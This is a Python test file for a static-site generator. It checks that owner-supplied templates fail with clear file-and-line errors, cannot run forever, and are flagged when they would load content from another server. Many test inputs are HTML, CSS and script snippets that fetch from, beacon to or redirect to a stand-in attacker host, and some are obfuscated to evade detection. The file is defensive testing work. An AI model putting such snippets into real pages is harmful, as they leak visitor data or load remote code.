"""The owner's templates: an error names file and line, none runs for ever, and none loads from elsewhere."""

import re

import pytest

from apivideo_geo.checks import check_links
from apivideo_geo.errors import UsageError
from apivideo_geo.render.context import Context
from apivideo_geo.render.site import render_site
from apivideo_geo.render.theme import own_templates
from apivideo_geo.render.theme.own_templates import POLICY, add_policy
from apivideo_geo.render.theme.templates import check_overrides
from apivideo_geo.render.theme.theme import Theme
from tests.browser import OpenPage
from tests.product import Product
from tests.render.browsing import build
from tests.render.samples import TEMPLATES, site_of, small, whole_site
from tests.sharing import DEMO_BUILT_AT


@pytest.fixture(scope="module")
def site():
    return whole_site(small())


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("\n{{ 1 / 0 }}", 2, "division by zero"),
        ("{{ 1 // 0 }}", 1, "zero"),
        ('{% extends "about.html" %}', 1, "it includes, extends or calls itself without an end"),
        ('{% include "about.html" %}', 1, "it includes, extends or calls itself without an end"),
        ("{% macro f() %}\n{{ f() }}{% endmacro %}{{ f() }}", 2, "it includes, extends or calls itself without an end"),
        ("{% for i in range(10**12) %}{% endfor %}", 1, "the page takes longer than 2 seconds"),
        ("{% for i in range(10**12) %}{% set x = i %}{% endfor %}", 1, "the page takes longer than 2 seconds"),
        ("{% set n = 9 ** (9**9) %}", None, "the page takes longer than 2 seconds"),
        (
            '{% for i in range(10**9) %}{{ "x" * 1000 }}{% endfor %}',
            None,
            "more than 50 million characters",
        ),
        ('{{ "x" * 10**15 }}', 1, "it needs too much memory"),
        ("{{ 'a' + 1 }}", 1, 'can only concatenate str (not "int") to str'),
        ("{{ theme.title() }}", 1, "'str' object is not callable"),
        ("{{ asset['none.svg'] }}", 1, "has no attribute 'none.svg'"),
        ("{{ 10**5000 }}", None, "Exceeds the limit"),
    ],
)
def test_an_error_in_a_template_is_one_sentence_with_file_and_line(tmp_path, monkeypatch, text, line, message):
    if "takes longer" in message:
        monkeypatch.setattr(own_templates, "SECONDS", 2.0)
    (tmp_path / "about.html").write_text(text)
    with pytest.raises(UsageError) as error:
        render_site(Context(small(), Theme("Acme", overrides=tmp_path)), TEMPLATES)
    place = f"{tmp_path}/about.html, line {line}: " if line else f"The templates of {tmp_path}: "
    assert str(error.value).startswith(place)
    assert message in str(error.value)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        (
            "still_map.html",
            ", whole=True",
            "",
            "line 3: this copy of an older file has not the argument whole of the macro",
        ),
        (
            "macros.html",
            "macro time(",
            "macro other(",
            "line 1: this copy of an older file has not the macro time;",
        ),
        ("pieces.html", "macro figures(figures, word)", "macro figures(figures)", "has not the argument word of the"),
    ],
)
def test_a_copy_of_an_older_file_of_macros_is_named_with_what_it_lacks(tmp_path, name, old, new, said):
    text = (TEMPLATES / name).read_text()
    assert old in text
    (tmp_path / name).write_text(text.replace(old, new))
    with pytest.raises(UsageError) as error:
        render_site(Context(small(), Theme("Acme", overrides=tmp_path)), TEMPLATES)
    assert str(error.value).startswith(f"{tmp_path}/{name}, line ")
    assert said in str(error.value)
    assert "in a copy of the file of this version, or remove it." in str(error.value)


def test_an_error_of_a_template_ends_the_command_with_2(tmp_path):
    product = Product(tmp_path)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine/404.html").write_text("<p>\n{{ 1 / 0 }}")
    said = product.run("demo", "--since", "2026-11-01", now=DEMO_BUILT_AT, code=2, APIVIDEO_GEO_TEMPLATES="mine").stderr
    assert "error: mine/404.html, line 2: division by zero; correct it, or remove the file." in said


@pytest.mark.parametrize(
    ("content", "line"), [(b"a\n\0", 2), (b"\x1b[0m", 1), (b"\n\ncaf\xe9", 3), ("a".encode("utf-16"), 1)]
)
@pytest.mark.parametrize("name", ["about.html", "assets/site.css", "assets/mine.js"])
def test_a_template_that_is_not_clean_text_is_refused_before_anything_is_rendered(tmp_path, name, content, line):
    path = tmp_path / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content)
    with pytest.raises(UsageError, match=rf"{name}, line {line}: it is not UTF-8 text, or has a control character"):
        check_overrides(tmp_path, TEMPLATES)


EVIL = "https://evil.example/x"


@pytest.mark.parametrize(
    ("page", "where"),
    [
        (f"<script src={EVIL}></script>", "src of <script>, line 1"),
        (f"<p>\n<IMG\nSRC = {EVIL} >", "src of <img>, line 2"),
        (f"<img src='a' srcset='favicon.svg 1x, {EVIL} 2x'>", "srcset of <img>, line 1"),
        (f'<link rel=preload as=image imagesrcset="{EVIL} 1x">', "imagesrcset of <link>, line 1"),
        (f"<video poster={EVIL}></video>", "poster of <video>, line 1"),
        (f"<object data={EVIL}></object>", "data of <object>, line 1"),
        (f"<embed src={EVIL}>", "src of <embed>, line 1"),
        (f"<iframe srcdoc='&lt;img src={EVIL}&gt;'></iframe>", "src of <img>, line 1"),
        (f"<style>\n@import '{EVIL}';</style>", "<style>, line 1"),
        (f"<style>@import url({EVIL});</style>", "<style>, line 1"),
        (f"<style>p {{ background: image-set('{EVIL}' 1x) }}</style>", "<style>, line 1"),
        (f"<p style='background:url({EVIL})'>", "style of <p>, line 1"),
        (f"<meta http-equiv=refresh content='0; url={EVIL}'>", "refresh of <meta>, line 1"),
        (f"<meta http-equiv=Refresh content='0;{EVIL}'>", "refresh of <meta>, line 1"),
        (f"<script>fetch('{EVIL}')</script>", "<script>, line 1"),
        (f"<script>import('{EVIL}')</script>", "<script>, line 1"),
        (f"<script type=module>import x from '{EVIL}'</script>", "<script>, line 1"),
        (f"<script>new Image().src = `{EVIL}`</script>", "<script>, line 1"),
        (f"<p onclick=\"fetch('{EVIL}')\">", "onclick of <p>, line 1"),
        (f"<form action={EVIL}></form>", "action of <form>, line 1"),
        (f"<button formaction={EVIL}>", "formaction of <button>, line 1"),
        (f"<base href={EVIL}>", "href of <base>, line 1"),
        (f"<svg><image xlink:href={EVIL} /><use href='#a'/></svg>", "xlink:href of <image>, line 1"),
        ("<img src=//evil.example/x>", "src of <img>, line 1"),
        ("<img src='/\\evil.example/x'>", "src of <img>, line 1"),
        ("<img src=' ht\ntps://evil.example/x'>", "src of <img>, line 1"),
        ("<a ping=https://evil.example/x href=index.html>", "ping of <a>, line 1"),
    ],
)
def test_whatever_a_page_would_load_from_another_server_is_found_with_its_attribute(site, page, where):
    named = {"about.html": page.replace("src='a' ", "").replace("favicon.svg", "index.html").encode()}
    problems = check_links(site | named, own_templates=True)
    assert len(problems) == 1, problems
    assert problems[0].startswith("about.html would load ")
    assert "evil.example/x from another server" in problems[0]
    assert problems[0].endswith(f"({where})")


@pytest.mark.parametrize("text", [f"fetch('{EVIL}')", f"import '{EVIL}'", f"navigator.sendBeacon('{EVIL}')"])
def test_a_script_of_the_owners_that_fetches_from_elsewhere_is_found(site, text):
    assert check_links(site | {"assets/mine.js": text.encode()}, own_templates=True) == [
        f"assets/mine.js would load {EVIL} from another server (the script)"
    ]


@pytest.mark.parametrize(
    "page",
    [
        f"<a href={EVIL}>a link</a>",
        f"<p>{EVIL}</p><code>&lt;img src={EVIL}&gt;</code><!-- <img src={EVIL}> -->",
        "<img src='data:image/png;base64,AA=='>",
        "<a href=mailto:a@example.org>x</a><a href='#top'>x</a><a href=index.html?period=30d#map>x</a>",
        "<script>fetch('data/choro.csv')</script>",
    ],
)
def test_what_loads_nothing_from_elsewhere_is_left_alone(site, page):
    assert check_links(site | {"about.html": page.encode()}, own_templates=True) == []


def test_an_address_that_is_none_is_a_sentence(site):
    for own in (True, False):
        assert check_links(site | {"about.html": b'<a href="https://[">x</a>'}, own) == [
            f"about.html has https://[, which is not an address ({'href of <a>, line 1' if own else '<a>'})"
        ]


def test_the_parser_finds_in_this_projects_own_pages_what_the_pattern_finds():
    site = site_of(small(), Theme("Acme"))
    found, expected = (check_links(site, own_templates=own) for own in (True, False))
    assert {one.rpartition(" (")[0] for one in found} == {one.rpartition(" (")[0] for one in expected}
    assert expected, "the files in data/ are not there, so that there is something to find"


@pytest.mark.parametrize(
    ("page", "start"),
    [
        ("<script src=a.js></script>", ""),
        ("<!doctype html><p>x", "<!doctype html>"),
        (
            "<!DOCTYPE html>\n<!-- x -->\n<html lang=fr>\n<head>\n<title>x</title>",
            "<!DOCTYPE html>\n<!-- x -->\n<html lang=fr>\n<head>",
        ),
        ("<p>x<html><head>", ""),
        ('<img src=x><meta http-equiv="Content-Security-Policy" content="default-src \'none\'">', ""),
        ('<meta http-equiv="Content-Security-Policy" content="default-src *">', ""),
        ("<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; img-src https:\">", ""),
    ],
)
def test_a_page_without_a_strict_policy_gets_one_before_anything_else(page, start):
    assert add_policy(page) == page.replace(
        start, f'{start}<meta http-equiv="Content-Security-Policy" content="{POLICY}">', 1
    )


def test_every_page_of_an_owners_base_has_the_policy_and_this_projects_own_stay_as_they_are(tmp_path, site):
    assert f'content="{POLICY}"' in (TEMPLATES / "base.html").read_text()
    for name, page in site.items():
        if name.endswith(".html") and name != "notebook.html":
            assert add_policy(page.decode()) == page.decode(), name
    (tmp_path / "base.html").write_text("<!doctype html><title>x</title>{% block main %}{% endblock %}")
    own = render_site(Context(small(), Theme("Acme", overrides=tmp_path)), TEMPLATES)
    pages = {name for name in own if name.endswith(".html")} - {"notebook.html"}
    assert len(pages) > 5
    for name in pages:
        assert re.search(rb"""<meta http-equiv="Content-Security-Policy" content="default-src 'none'""", own[name]), (
            name
        )


def test_in_a_browser_the_added_policy_stops_a_script_that_no_check_can_see(open_page: OpenPage, tmp_path):
    (tmp_path / "mine").mkdir()
    hidden = (
        "<script>document.title = 'inline ran'</script><script src='data:text/javascript,document.title=1'></script>"
    )
    (tmp_path / "mine/about.html").write_text(f"<!doctype html><html lang=en><title>Mine</title>{hidden}<p>Text")
    front = build(small(), tmp_path / "site", Theme("Acme", overrides=tmp_path / "mine"))
    assert open_page(front.with_name("about.html").as_uri()).page.title() == "Mine"
